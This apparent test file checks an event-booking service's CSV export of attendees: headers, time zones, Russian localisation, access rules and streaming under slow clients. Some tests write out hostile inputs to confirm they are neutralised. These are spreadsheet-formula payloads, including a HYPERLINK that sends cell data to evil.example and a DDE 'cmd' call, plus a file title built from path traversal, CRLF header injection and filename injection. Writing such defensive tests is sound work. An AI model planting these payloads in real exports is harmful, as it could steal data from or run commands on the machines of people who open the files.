import { once } from 'node:events'
import { type IncomingMessage, request } from 'node:http'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { until } from '../world/until.ts'
import { openWorld, type Person, world } from '../world/world.ts'

const w = await world()
const olga = await w.person('olga')
const [anna, boris, vera, gleb] = (await w.crowd(4)) as [Person, Person, Person, Person]

/** A row a booking, by the names of the columns. */
const rowsOf = (text: string) => parse(text, { bom: true, columns: true }) as Record<string, string>[]
const name = (person: Person, first: string, last = '') =>
  w.sql('update accounts set first_name = $2, last_name = $3 where id = $1', [person.user.id, first, last])

/** Many bookings of one event, as if a crowd had come; with names as long as told. */
async function filled(of: typeof w, eventId: number, count: number, long = 5): Promise<void> {
  await of.sql(
    `with people as (
       insert into accounts (email, username, password_hash, first_name, last_name, locale, time_zone, created_at, updated_at)
       select n || '@example.org', n, 'none', repeat('A', $3::int), 'Petrova', 'en', 'UTC', now(), now()
       from generate_series(1, $2::int) i, format('many-%s-%s', $1::bigint, i) n
       returning id
     )
     insert into bookings (event_id, account_id, state, ticket_code, created_at)
     select $1, id, 'confirmed', upper(substr(md5(id::text), 1, 16)), now() from people`,
    [eventId, count, long],
  )
}

test('the organizer takes home who booked, in the order they came, times as a clock at the event shows them', async () => {
  const event = await w.event(olga, { title: 'Лекция «О картах» / №1', seats: 2, time_zone: 'Asia/Tokyo' })
  await name(anna, 'Анна', 'Каренина')
  const booked = []
  for (const [person, seats] of [
    [anna, 1],
    [boris, 1],
    [vera, 1],
    [gleb, 1],
  ] as const)
    booked.push((await person.post(`/events/${event.id}/bookings`, { seats })).body)
  await boris.delete(`/bookings/${booked[1]!.id}`)
  await w.sql(`update bookings set created_at = '2027-03-14T16:00:05Z' where id = $1`, [booked[0]!.id])
  await olga.post(`/bookings/${booked[0]!.id}/check-in`)
  await w.sql(`update bookings set checked_in_at = '2027-03-14T15:00:00Z' where id = $1`, [booked[0]!.id])

  const answer = await olga.get(`/events/${event.id}/bookings.csv`)
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8; header=present',
    'content-disposition': `attachment; filename="bookings-${event.id}.csv"; filename*=UTF-8''${encodeURIComponent('Лекция «О картах» №1.csv')}`,
    'x-content-type-options': 'nosniff',
    'cache-control': 'private, no-store',
  })
  expect(answer.text.startsWith('\uFEFFCode,Name,')).toBe(true)
  expect(answer.text.endsWith('\r\n')).toBe(true)
  expect(answer.text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
  const rows = rowsOf(answer.text)
  expect(rows.map((row) => [row.Username, row.State])).toEqual([
    [anna.user.username, 'confirmed'],
    [vera.user.username, 'confirmed'],
    [gleb.user.username, 'waitlisted'],
  ])
  expect(rows[0]).toEqual({
    Code: booked[0]!.ticket_code,
    Name: 'Анна Каренина',
    Username: anna.user.username,
    'E-mail': anna.user.email,
    Seats: '1',
    State: 'confirmed',
    'Booked at (Asia/Tokyo)': '2027-03-15 01:00:05',
    'Checked in at (Asia/Tokyo)': '2027-03-15 00:00:00',
  })
  expect(rows[2]!['Checked in at (Asia/Tokyo)']).toBe('')

  const russian = await olga.get(`/events/${event.id}/bookings.csv`, { 'accept-language': 'ru' })
  expect(russian.headers['content-language']).toBe('ru')
  expect(rowsOf(russian.text)[2]).toMatchObject({ Мест: '1', Состояние: 'в листе ожидания' })
})

test('nothing that people call themselves is a formula, or breaks a line', async () => {
  const hostile = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '+1+cmd|" /C calc"!A0',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ]
  const harmless = ['Anna "the Great", Queen\r\nof maps', 'O’Neil; 1=1', 'Ольга-Мария', "'quoted'", '']
  const crowd = await w.crowd(hostile.length + harmless.length, 'named')
  const event = await w.event(olga, { seats: 100 })
  for (const [place, text] of [...hostile, ...harmless].entries()) {
    await name(crowd[place]!, text)
    await crowd[place]!.post(`/events/${event.id}/bookings`, {})
  }
  await w.sql(`update accounts set email = '=1+1@example.org', last_name = 'O' where id = $1`, [
    crowd.at(-1)!.user.id,
  ])
  await name(boris, 'Boris;=1+1', 'O,\t@SUM(1)\r\n-2')
  await boris.post(`/events/${event.id}/bookings`, {})
  const rows = rowsOf((await olga.get(`/events/${event.id}/bookings.csv`)).text)
  // Nor where another country's spreadsheet would begin a cell.
  expect(rows.pop()?.Name).toBe("Boris;'=1+1 O,\t'@SUM(1)\r\n'-2")
  expect(rows.slice(0, hostile.length).map((row) => row.Name)).toEqual(
    hostile.map((text) => `'${text.trim()}`),
  )
  expect(rows.slice(hostile.length, -1).map((row) => row.Name)).toEqual(harmless.slice(0, -1))
  expect(rows.at(-1)).toMatchObject({ Name: 'O', 'E-mail': "'=1+1@example.org" })
})

test('a title that is no file name makes none', async () => {
  const title = `../../etc/passwd"; filename=evil.exe\r\nx: y \u202e%00 ${'ы'.repeat(90)} 💥*'()`
  const event = await w.event(olga, { title })
  const { headers } = await olga.get(`/events/${event.id}/bookings.csv`)
  const [, plain, encoded = ''] =
    /^attachment; filename="([\w.-]+)"; filename\*=UTF-8''([\w.%~-]+)$/.exec(
      headers['content-disposition'] ?? '',
    ) ?? []
  expect(plain).toBe(`bookings-${event.id}.csv`)
  const decoded = decodeURIComponent(encoded)
  expect(decoded).toMatch(/^[^/\\"\r\n\u202e]{10,64}\.csv$/u)
  expect(headers.x).toBeUndefined()
})

test('the list is for the organizer; for everyone else it does not exist', async () => {
  const event = await w.event(olga)
  await anna.post(`/events/${event.id}/bookings`, {})
  const nothing = { status: 404, code: 'not_found' }
  for (const person of [anna, boris]) {
    const answer = await person.get(`/events/${event.id}/bookings.csv`)
    expect(answer).toMatchObject(nothing)
    expect(answer.headers['content-disposition']).toBeUndefined()
    expect(answer.text).toBe((await person.get('/events/999999/bookings.csv')).text)
  }
  expect((await w.stranger.get(`/events/${event.id}/bookings.csv`)).status).toBe(401)
  const empty = await olga.get(`/events/${(await w.event(olga)).id}/bookings.csv`)
  expect(empty.text.split('\r\n')).toHaveLength(2)
})

test('a list of many parts is whole, each booking once, at any boundary', async () => {
  for (const count of [499, 500, 501, 1000]) {
    const event = await w.event(olga, { seats: 10_000 })
    await filled(w, event.id, count)
    const rows = rowsOf((await olga.get(`/events/${event.id}/bookings.csv`)).text)
    expect(rows.map((row) => row.Username)).toEqual(
      Array.from({ length: count }, (_, place) => `many-${event.id}-${place + 1}`),
    )
  }
})

test('whoever hangs up in the middle leaves nothing behind, and a slow reader holds no connection', async () => {
  await using other = await openWorld({ env: { DATABASE_POOL: '2' } })
  const organizer = await other.person('olga')
  const event = await other.event(organizer, { seats: 100_000 })
  // 12 MB: more than lies between two sockets.
  await filled(other, event.id, 6000, 2000)
  const open = async () => {
    const outgoing = request(`${other.app.url}/api/v1/events/${event.id}/bookings.csv`, {
      headers: { authorization: `Bearer ${organizer.access}` },
    })
    outgoing.on('error', () => {})
    outgoing.end()
    const [incoming] = (await once(outgoing, 'response')) as [IncomingMessage]
    incoming.on('error', () => {})
    await once(incoming, 'readable')
    return { outgoing, incoming }
  }
  const busy = async () => {
    const [row] = await other.sql<{ busy: number }>(
      `select count(*)::int as busy from pg_stat_activity
       where datname = current_database() and state <> 'idle' and pid <> pg_backend_pid()`,
    )
    return row!.busy
  }
  // More of them than connections, none of whom reads on.
  const readers = await Promise.all([1, 2, 3, 4, 5].map(open))
  await until(async () => (await busy()) === 0, { expected: 'slow readers that hold no connection' })
  expect((await organizer.get('/me')).status).toBe(200)
  for (const { outgoing } of readers.slice(1)) outgoing.destroy()
  await until(async () => (await busy()) === 0)

  let text = ''
  readers[0]!.incoming.setEncoding('utf8')
  for await (const part of readers[0]!.incoming) text += part
  expect(rowsOf(text)).toHaveLength(6000)
})
